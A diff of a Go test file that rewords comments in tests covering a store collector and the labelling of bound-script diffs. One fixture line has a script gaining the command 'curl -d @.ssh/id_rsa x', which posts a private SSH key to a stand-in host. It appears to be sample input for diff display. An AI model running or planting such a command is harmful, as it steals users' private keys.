@@ -272,8 +272,8 @@ func TestCollectionNeverWaitsForTheStore(t *testing.T) {
 		c := observe(t, dir, "s", stage)
 		keep(t, opts, st, stage, []Want{{ID: id, Manifest: &c.Manifest, How: baseline.HowSession}}, t0.Add(time.Duration(i)*time.Hour))
 	}
-	// st stays open: a session holds the store (and may be asking for the
-	// content store) while the collector runs.
+	// st stays open: a session holds the store while the collector runs. It
+	// may be asking for the content store.
 	opts.LockTimeout = time.Hour
 	got, err := collect(opts, content.DefaultMaxBytes)
 	if err != nil || !got.Busy || got.Objects != 0 {
@@ -428,8 +428,9 @@ func TestAStageCopiesNothingTheStoreKeepsAlready(t *testing.T) {
 	}
 }
 
-// A bound script's diff is labelled by where it lies (issue #23), in its
-// path and in the unified diff's labels alike; other paths as before.
+// A bound script's diff is labelled by where it lies (issue #23). That
+// holds in its path and in the unified diff's labels alike. Other paths
+// are as before.
 func TestADiffShowsABoundScriptByItsName(t *testing.T) {
 	script := []byte("scripts/00112233445566778899aabbccddeeff")
 	old, new := []byte("gofmt\n"), []byte("gofmt\ncurl -d @.ssh/id_rsa x\n")
